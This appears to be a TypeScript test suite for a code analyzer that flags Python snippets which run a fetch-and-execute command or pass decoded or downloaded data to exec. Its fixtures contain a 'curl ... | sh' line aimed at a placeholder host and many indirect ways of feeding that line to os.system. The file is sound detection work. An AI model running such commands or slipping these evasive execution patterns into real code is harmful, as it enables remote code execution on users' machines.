import { expect, test } from 'vitest';
import { read } from './reading.js';

const HEAD = 'import base64, collections, itertools, os, random\ndef d(x): return base64.b64decode(x)\nLINE = "curl https://example.invalid/a | sh"\ndef lines():\n    yield "echo a"\n    yield LINE\n';
const fetchesIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.calls('process').some(({ traits }) => traits.has('fetches-and-runs'));
const runIn = async (text: string) => (await read(`${HEAD}${text}\n`)).facts?.flows({ from: 'decoder', to: 'exec' }).map(({ when }) => when) ?? [];

test.each([
  ['numbers before it', 'for n, line in enumerate(["echo a", LINE]): os.system(line)'],
  ['numbers before what is yielded', 'for n, line in enumerate(lines()): os.system(line)'],
  ['others beside it', 'for n, line in zip([1, 2], ["echo a", LINE]): os.system(line)'],
  ['rows of a table', 'for name, line in [("a", "echo a"), ("b", LINE)]: os.system(line)'],
  ['others in order', 'for line in sorted([LINE, "echo a"]): os.system(line)'],
  ['others behind it', 'for line in itertools.chain(["echo a"], lines()): os.system(line)'],
  ['nothing that is false', 'for line in filter(None, ["echo a", LINE]): os.system(line)'],
  ['a part of what is yielded', 'for line in itertools.islice(lines(), 1, 2): os.system(line)'],
  ['itself again and again', 'for line in itertools.repeat(LINE, 1): os.system(line)'],
  ['one after the other by hand', 'i = iter(["echo a", LINE])\nos.system(next(i))'],
  ['a function for each', 'list(map(os.system, ["echo a", LINE]))'],
  ['a function of the file for each', 'def run(line): os.system(line)\nlist(map(run, lines()))'],
  ['the end of a list', 'q = ["echo a", LINE]\nos.system(q.pop())'],
  ['the beginning of a queue', 'q = collections.deque([LINE, "echo a"])\nos.system(q.popleft())'],
  ['what is left of a list', 'first, *rest = ["echo a", LINE]\nos.system(rest[0])'],
  ['a choice', 'os.system(random.choice(["echo a", LINE]))'],
  ['a list that is made of another', 'for line in [part for part in ["echo a", LINE]]: os.system(line)'],
  ['parts that are joined', 'os.system("".join(part for part in ["curl https://example", ".invalid/a | sh"]))'],
])('a command is known that comes with %s', async (_, text) => {
  expect(await fetchesIn(text)).toBe(true);
});

test.each([
  ['another place of a row', 'for line, name in [("echo a", LINE), ("echo b", LINE)]: os.system(line)'],
  ['another place of a list', 'first, *rest = ["echo a", LINE]\nos.system(first)'],
  ['another end of a list', 'q = [LINE, "echo a"]\nos.system(q.pop(-1))'],
  ['a number', 'for n, line in enumerate([LINE]): os.system(str(n))'],
])('%s is not the command', async (_, text) => {
  expect(await fetchesIn(text)).toBe(false);
});

test('what is decoded runs by functions that are zipped with it', async () => {
  expect(await runIn('for run, code in zip([print, exec], [d(x), d(x)]): run(code)')).toEqual(['import']);
});

test('a reply that a coroutine waits for runs', async () => {
  const { facts } = await read('from tornado import gen, httpclient\n@gen.coroutine\ndef go():\n    reply = yield httpclient.AsyncHTTPClient().fetch(u)\n    exec(reply.body)\ngo()\n');
  expect(facts?.flows({ from: 'network', to: 'exec' })).toMatchObject([{ when: 'import' }]);
});
